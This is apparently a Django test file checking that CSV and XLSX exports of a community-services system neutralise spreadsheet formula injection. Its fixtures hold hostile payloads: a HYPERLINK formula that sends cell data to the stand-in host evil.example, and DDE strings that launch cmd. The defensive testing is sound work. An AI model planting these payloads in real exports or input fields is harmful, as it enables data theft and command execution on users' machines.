"""No export carries a live formula (issue 19, finding 4).

An organization, a resident and a community each named with a formula go through every
export kind, in CSV and XLSX, and through the settlement and access exports.
"""

import csv
import datetime
import io

import pytest
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from reporting import exports
from reporting.models import ExportJob
from sanlian.spreadsheet_safety import spreadsheet_safe
from services.models import SettlementLine, SettlementStatement, Visit
from tests import factories as f

EVIL = '=HYPERLINK("http://evil.example/?d="&A2&B2,"详情")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def evil(cast):
    """Formula names wherever a user's text reaches an export."""
    cast.organization.name = EVIL
    cast.organization.save(update_fields=["name"])
    cast.resident.name = "+cmd|' /C calc'!A0"
    cast.resident.save(update_fields=["name"])
    cast.community.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    cast.community.save(update_fields=["name"])
    offering = f.OfferingFactory(organization=cast.organization)
    request = f.ServiceRequestFactory(resident=cast.resident, service_type=offering.service_type)
    f.VisitFactory(request=request, offering=offering, scheduled_start=timezone.now())
    return cast


def _dangerous(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(TRIGGERS)]


def _csv_cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]


def _export(client, user, kind, file_format):
    client.force_login(user)
    data = {"kind": kind, "file_format": file_format, "purpose": "季度核对名单"}
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse("exports:index"), data)
    if file_format == "csv":
        return _csv_cells(b"".join(response.streaming_content).decode("utf-8"))
    job = ExportJob.objects.latest("pk")
    download = client.get(reverse("exports:download", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [c for row in sheet.iter_rows(values_only=True) for c in row]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", [k.value for k in ExportJob.Kind])
def test_every_export_kind_makes_formulas_inert(client, evil, kind, file_format):
    cells = _export(client, evil.civil, kind, file_format)
    assert _dangerous(cells) == []
    inert = [c for c in cells if isinstance(c, str) and c.startswith("'")]
    expected = {
        "organizations": {"'" + EVIL},
        "residents": {"'" + evil.resident.name, "'" + evil.community.name},
        "requests": {"'" + evil.resident.name, "'" + evil.community.name},
        "visits": {"'" + evil.resident.name, "'" + evil.community.name, "'" + EVIL},
        "indicators": {"'" + evil.community.name},
        # No contract here: tests/projects/test_exports.py sends a formula through these.
        "project_progress": set(),
        "project_funds": set(),
    }[kind]
    assert expected <= set(inert)  # the text is kept, only made inert


def test_control_without_neutralising_the_formula_would_be_live(client, evil, monkeypatch):
    """Control: the check above sees a live formula when the writer lets it through."""
    monkeypatch.setattr(exports, "spreadsheet_safe", lambda value: value)
    client.force_login(evil.civil)
    data = {"kind": "organizations", "file_format": "xlsx"}
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post(reverse("exports:index"), data)
    job = ExportJob.objects.latest("pk")
    download = client.get(reverse("exports:download", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"] == [EVIL]


@pytest.fixture
def statement(evil):
    month = timezone.localdate().replace(day=1)
    statement = SettlementStatement.objects.create(organization=evil.organization, month=month)
    visit = Visit.objects.get()
    SettlementLine.objects.create(
        statement=statement,
        visit=visit,
        resident=evil.resident,
        community=evil.community,
        street=evil.east_street,
        service_type_name="-2+3",
        served_on=month + datetime.timedelta(days=1),
        price_class="subsidised",
        price_fen=3000,
        allowance_fen=2000,
        copay_fen=1000,
    )
    return statement


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_settlement_exports_make_formulas_inert(client, evil, statement, fmt):
    client.force_login(evil.civil)
    response = client.get(f"/allowances/statements/{statement.pk}/export.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        cells = _csv_cells(response.content.decode("utf-8"))
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
        assert 20.0 in cells  # money stays a number
    assert _dangerous(cells) == []
    assert {"'" + evil.resident.name, "'-2+3"} <= set(cells)


def test_resident_access_export_csv_makes_formulas_inert(client, evil):
    client.force_login(evil.street_staff)
    response = client.post(
        f"/communities/residents/{evil.resident.pk}/export/",
        {"purpose": "居民申请查阅", "format": "csv"},
    )
    assert response.status_code == 200
    assert _dangerous(_csv_cells(response.content.decode("utf-8"))) == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a plain number computes nothing
        ("-12.5", "-12.5"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        (5, 5),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected
